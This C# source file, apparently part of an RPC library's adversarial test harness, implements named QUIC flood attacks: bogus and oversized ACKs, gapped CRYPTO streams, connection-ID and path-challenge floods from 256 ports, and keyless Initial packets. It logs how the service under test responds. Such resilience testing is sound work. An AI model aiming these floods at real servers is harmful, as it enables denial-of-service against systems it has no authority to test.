using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using IrohRpc.Multiplexing.Streams;
using IrohRpc.Transports;

namespace IrohRpc.Hostile;

/// <summary>Floods of QUIC's own packets and frames, by somebody who has the keys of a connection, and by somebody who has none.</summary>
internal sealed class QuicFloods(ITransport transport, EndpointTicket ticket, IPEndPoint at, Outcomes outcomes)
{
    // The numbers of RFC 9000, section 19.
    private const long Ack = 0x02;
    private const long Crypto = 0x06;
    private const long NewConnectionId = 0x18;
    private const long RetireConnectionId = 0x19;
    private const long PathChallenge = 0x1a;
    private const int PacketsAtOnce = 50;

    /// <summary>The attacks by name.</summary>
    public static IReadOnlyDictionary<string, Func<QuicFloods, CancellationToken, Task>> All { get; } = new Dictionary<string, Func<QuicFloods, CancellationToken, Task>>
    {
        ["ACK of what was never sent"] = static (floods, stop) => floods.PacketsAsync(static _ => RawQuic.Frame(Ack, 1L << 40, 0, 0, 0), stop),
        ["ACK of 64 ranges"] = static (floods, stop) => floods.PacketsAsync(static _ => RawQuic.Frame([Ack, 200, 0, 63, 0, .. Enumerable.Repeat(0L, 126)]), stop),
        ["crypto with a gap"] = static (floods, stop) => floods.PacketsAsync(static number => [.. RawQuic.Frame(Crypto, 1 + (number * 1_000), 1_000), .. new byte[1_000]], stop),
        ["crypto without end"] = static (floods, stop) => floods.PacketsAsync(static number => [.. RawQuic.Frame(Crypto, number * 1_000, 1_000), .. new byte[1_000]], stop),
        ["ids without end"] = static (floods, stop) => floods.PacketsAsync(static number => NewId(number + 8, number + 8), stop),
        ["ids that nobody issued are retired"] = static (floods, stop) => floods.PacketsAsync(static number => RawQuic.Frame(RetireConnectionId, 1_000 + number), stop),
        ["challenges"] = static (floods, stop) => floods.PacketsAsync(static number => [.. RawQuic.Frame(PathChallenge), .. BitConverter.GetBytes(number)], stop),
        ["paths"] = static (floods, stop) => floods.PathsAsync(stop),
        ["crypto in Initials"] = static (floods, stop) => floods.InitialsAsync(stop),
    };

    private static byte[] NewId(long sequence, long retirePriorTo)
        => [.. RawQuic.Frame(NewConnectionId, sequence, retirePriorTo), 8, .. BitConverter.GetBytes(sequence), .. new byte[8], .. BitConverter.GetBytes(~sequence)];

    private async Task PacketsAsync(Func<long, byte[]> frames, CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            await using RawQuic connection = await ConnectAsync(stop);
            for (long number = 0; !connection.Closed.IsCompleted && !stop.IsCancellationRequested; number += PacketsAtOnce)
            {
                for (int count = 0; count < PacketsAtOnce; count++)
                {
                    connection.Send(frames(number + count));
                }

                // What the service says is handled on other threads, of the one processor that this process has.
                await Task.Yield();
            }

            await NoteEndAsync(connection, stop);
        }
    }

    // Each packet from another port: the peer seems to move, over and over.
    private async Task PathsAsync(CancellationToken stop)
    {
        Socket[] sockets = [.. Enumerable.Range(0, 256).Select(_ => new Socket(at.AddressFamily, SocketType.Dgram, ProtocolType.Udp))];
        try
        {
            while (!stop.IsCancellationRequested)
            {
                await using RawQuic connection = await ConnectAsync(stop);
                for (long number = 0; !connection.Closed.IsCompleted && !stop.IsCancellationRequested; number++)
                {
                    connection.Send([.. RawQuic.Frame(PathChallenge), .. BitConverter.GetBytes(number)], sockets[number % sockets.Length], at);
                    if (number % PacketsAtOnce == 0)
                    {
                        await Task.Yield();
                    }
                }

                await NoteEndAsync(connection, stop);
            }
        }
        finally
        {
            Array.ForEach(sockets, static socket => socket.Dispose());
        }
    }

    private async Task InitialsAsync(CancellationToken stop)
    {
        byte[] content = new byte[1_000];
        using var socket = new Socket(at.AddressFamily, SocketType.Dgram, ProtocolType.Udp);
        while (!stop.IsCancellationRequested)
        {
            byte[] destination = RandomNumberGenerator.GetBytes(8);
            for (int number = 0; number < 200 && !stop.IsCancellationRequested; number++)
            {
                await socket.SendToAsync(RawQuic.Initial(destination, number, [.. RawQuic.Frame(Crypto, 1 + (number * 1_000), content.Length), .. content]), at, stop);
            }

            outcomes.Note("200 KB sent");
        }
    }

    private Task<RawQuic> ConnectAsync(CancellationToken stop) => RawQuic.ConnectAsync(transport, ticket, stop);

    private async Task NoteEndAsync(RawQuic connection, CancellationToken stop)
    {
        if (connection.Closed.IsCompleted)
        {
            ConnectionEnd end = await connection.Closed.WaitAsync(stop);
            outcomes.Note(end.ErrorCode is { } code ? string.Create(CultureInfo.InvariantCulture, $"connection closed 0x{code:x}") : $"{end.Kind}");
        }
    }
}
